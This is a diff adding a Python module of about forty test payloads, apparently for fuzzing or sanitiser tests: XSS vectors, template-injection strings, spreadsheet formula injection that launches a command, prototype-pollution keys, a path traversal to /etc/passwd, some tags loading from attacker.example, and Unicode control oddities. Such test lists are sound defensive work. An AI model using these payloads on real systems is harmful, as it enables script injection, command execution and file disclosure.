@@ -1,0 +1,48 @@
+"""Forty texts that have broken a page somewhere: markup, script, addresses, formulas, controls, half of Unicode."""
+
+from __future__ import annotations
+
+__all__ = ["PAYLOADS"]
+
+PAYLOADS: tuple[str, ...] = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src='http://attacker.example/'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<link rel=stylesheet href=http://attacker.example/x.css>",
+    "<style>@import 'http://attacker.example/x.css'</style>",
+    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
+    "<base href='http://attacker.example/'>",
+    "<form action=http://attacker.example/><input name=x></form>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    "` onmouseover=alert(1) x=`",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "<%= 7 * 7 %>",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<object data='http://attacker.example/'></object>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)",
+    "=cmd|'/c calc'!A1",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "__proto__",
+    "constructor",
+    "../../../../etc/passwd",
+    "line\u2028separator\u2029and\x85next",
+    "\u202eright-to-left\u202c and \ufeff",
+    "a\x00b\x1b[31mred\x07",
+    "🏴\U000e0067\U000e0062 " + "Z\u0335\u0321\u0322" * 40,
+)
